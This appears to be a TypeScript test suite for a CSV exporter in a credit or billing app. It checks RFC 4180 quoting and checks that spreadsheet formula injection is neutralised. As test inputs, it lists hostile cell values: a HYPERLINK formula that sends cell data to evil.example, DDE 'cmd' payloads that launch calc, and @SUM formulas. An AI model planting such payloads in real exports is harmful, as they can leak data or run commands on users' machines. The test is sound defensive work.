import { expect } from "chai";
import fc from "fast-check";
import {
  createJournal,
  csvCell,
  neutraliseFormula,
  planRun,
  previewMassCredit,
  processRun,
  runToCsv,
  toCsv,
} from "../../packages/core/src/index.js";
import { dataSet, enrollment, family, LISTS, request, student } from "./mass-credit/fixtures.js";

/** A strict RFC 4180 reader (CRLF records, quoted cells), to read back what `toCsv` wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error("unterminated quote");
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") {
        if (text[i] === '"' || text[i] === "\n") throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted cell`);
        cell += text[i++];
      }
    }
    if (text[i] === ",") {
      row.push(cell);
      cell = "";
      i++;
    } else if (text.startsWith("\r\n", i)) {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 2;
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (cell !== "" || row.length > 0) throw new Error("the last record does not end with CRLF");
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

describe("CSV export (RFC 4180, formula injection neutralised)", () => {
  it("quotes cells holding commas, quotes, CR or LF, doubling the quotes, and ends every record with CRLF", () => {
    const csv = toCsv(
      ["Name", "Note"],
      [
        ["Rivera, Ana", 'She said "hi"'],
        ["Line\nbreak", "Carriage\rreturn"],
        ["plain", ""],
      ],
    );
    expect(csv).to.equal('Name,Note\r\n"Rivera, Ana","She said ""hi"""\r\n"Line\nbreak","Carriage\rreturn"\r\nplain,\r\n');
  });

  it("prefixes a single quote to text cells that begin with =, +, -, @, tab or carriage return", () => {
    // A tab or CR at the start is a separator too, so the formula after it is neutralised as well.
    expect(HOSTILE.map(neutraliseFormula)).to.deep.equal(
      HOSTILE.map((text) => (/^[\t\r]/.test(text) ? `'${text[0]}'${text.slice(1)}` : `'${text}`)),
    );
    for (const safe of ["O'Brien", "Smith", "a=b", "", "5.00"]) expect(neutraliseFormula(safe)).to.equal(safe);
    expect(csvCell('=HYPERLINK("x")')).to.equal('"\'=HYPERLINK(""x"")"');
    expect(csvCell("@SUM(A1)")).to.equal("'@SUM(A1)");
  });

  it("a part a spreadsheet could split off or trim into a formula (after , ; tab CR LF, or after leading whitespace) gets a ' too", () => {
    const cases: [string, string][] = [
      ["Smith;=1+1", "Smith;'=1+1"],
      [" =1+1", "' =1+1"],
      ["x\t=1+1", "x\t'=1+1"],
      ["Rivera, @SUM(A1:A9)", "Rivera,' @SUM(A1:A9)"],
      ["Ann\n-2+3+cmd|' /C calc'!A0", "Ann\n'-2+3+cmd|' /C calc'!A0"],
      ["a;\u00a0 +1", "a;'\u00a0 +1"],
      ["=1;=2", "'=1;'=2"],
    ];
    expect(cases.map(([text]) => neutraliseFormula(text))).to.deep.equal(cases.map(([, safe]) => safe));
    for (const safe of ["Smith; Jones", "a=b", "x - y", "Mon, Wed", "g-pre 10.00; g-ac 10.00", "O'Brien"]) {
      expect(neutraliseFormula(safe)).to.equal(safe);
    }
    // Through the writer: the cell reads back with the part neutralised, and no part split off it is a formula.
    const [, row] = parseCsv(toCsv(["Name"], [["Smith;=1+1"], [" =1+1"]]));
    expect(row).to.deep.equal(["Smith;'=1+1"]);
  });

  it("no part of a written cell is a formula, only ' is ever added, and a text with no such part is written as it is (any text)", () => {
    const piece = fc.constantFrom("=", "+", "-", "@", ";", ",", "\t", "\r", "\n", " ", "\u00a0", "'", "a", "1", "SUM(A1)", ".");
    const text = fc.oneof(
      fc.string(),
      fc.array(piece, { maxLength: 12 }).map((parts) => parts.join("")),
    );
    const risky = (t: string) => /^[\t\r]/.test(t) || t.split(/[,;\t\r\n]/).some((part) => /^[=+\-@]/.test(part.trimStart()));
    /** True when `written` is `original` with only single quotes added. */
    const onlyQuotesAdded = (original: string, written: string) => {
      let i = 0;
      for (const ch of written)
        if (ch === original[i]) i++;
        else if (ch !== "'") return false;
      return i === original.length;
    };
    fc.assert(
      fc.property(text, (t) => {
        const written = neutraliseFormula(t);
        expect(risky(written), JSON.stringify(written)).to.equal(false);
        expect(onlyQuotesAdded(t, written)).to.equal(true);
        expect(written === t).to.equal(!risky(t));
      }),
      { numRuns: 2000 },
    );
  });

  it("keeps plain numbers in numeric columns as numbers (negative ones too), and neutralises anything else there", () => {
    const csv = toCsv(
      ["Who", "Amount"],
      [
        ["-5.00", "-5.00"],
        ["x", "12.50"],
        ["y", "-5+cmd"],
        ["z", "=1+1"],
      ],
      { numericColumns: [1] },
    );
    expect(parseCsv(csv)).to.deep.equal([
      ["Who", "Amount"],
      ["'-5.00", "-5.00"],
      ["x", "12.50"],
      ["y", "'-5+cmd"],
      ["z", "'=1+1"],
    ]);
  });

  it("reads back as the cells it was given, with only formula-looking text prefixed (any text)", () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom(...HOSTILE, ",", '"', "\r\n", "\n", "\r", "-1.25", '=""'));
    fc.assert(
      fc.property(
        fc.array(cell, { minLength: 1, maxLength: 4 }),
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }),
        (header, rows) => {
          const back = parseCsv(toCsv(header, rows));
          expect(back).to.deep.equal([header, ...rows].map((row) => row.map(neutraliseFormula)));
          for (const row of back) for (const text of row) expect(/^[=+\-@\t\r]/.test(text)).to.equal(false);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it("exports a run: family, student, enrollment, amount, grant id, credit type, date and location, hostile names neutralised", async () => {
    const names = ['=HYPERLINK("http://evil.example","Pay here")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", 'Rivera, "Ana"\nand Luis'];
    const data = dataSet({
      families: names.map((name, i) => family(`F${i + 1}`, name)),
      students: names.map((_, i) => student(`S${i + 1}`, `F${i + 1}`, i === 0 ? "-1+1" : `Kid ${i + 1}`)),
      enrollments: names.map((_, i) => enrollment(`E${i + 1}`, `S${i + 1}`, "A")),
    });
    const preview = previewMassCredit(request({ mode: "enrollment", amount: "12.50", location: "north" }), data);
    const journal = createJournal({ currency: "USD" });
    for (const f of data.families) journal.openAccount({ id: f.id, name: f.name, kind: "family" });
    const record = await processRun(journal, planRun(preview, { runId: "csv", lists: LISTS }), { yieldControl: () => Promise.resolve() });
    const csv = runToCsv(record);
    expect(csv.startsWith("\uFEFF")).to.equal(true);
    // The table, an empty line, then the record's summary (§6: status, totals and the filters used).
    const [tablePart = "", summaryPart = ""] = csv.slice(1).split("\r\n\r\n");
    expect(parseCsv(summaryPart)).to.deep.equal([
      ["Run", "csv"],
      ["Status", record.status],
      ["Credits", String(record.count)],
      ["Total (USD)", record.total],
      ...record.filters.map((line) => ["Filter", line]),
    ]);
    expect(record.filters.length).to.be.greaterThan(0);
    const [header, ...rows] = parseCsv(`${tablePart}\r\n`);
    expect(header).to.deep.equal([
      "Family",
      "Family ID",
      "Student",
      "Enrollment",
      "Amount (USD)",
      "Grant ID",
      "Credit type",
      "Date",
      "Location",
    ]);
    const byId = new Map(rows.map((row) => [row[1], row]));
    expect(byId.get("F1")).to.deep.equal([
      '\'=HYPERLINK("http://evil.example","Pay here")',
      "F1",
      "'-1+1",
      "Swim Level 1",
      "12.50",
      "csv/e:E1",
      "Weather closure",
      "2026-12-01",
      "Northside",
    ]);
    expect(byId.get("F2")?.[0]).to.equal("'+cmd|' /C calc'!A0");
    expect(byId.get("F3")?.[0]).to.equal("'@SUM(A1:A9)");
    expect(byId.get("F4")?.[0]).to.equal('Rivera, "Ana"\nand Luis');
    expect(rows).to.have.length(record.count);
    expect(runToCsv(record, { bom: false }).startsWith("Family,")).to.equal(true);
  });
});
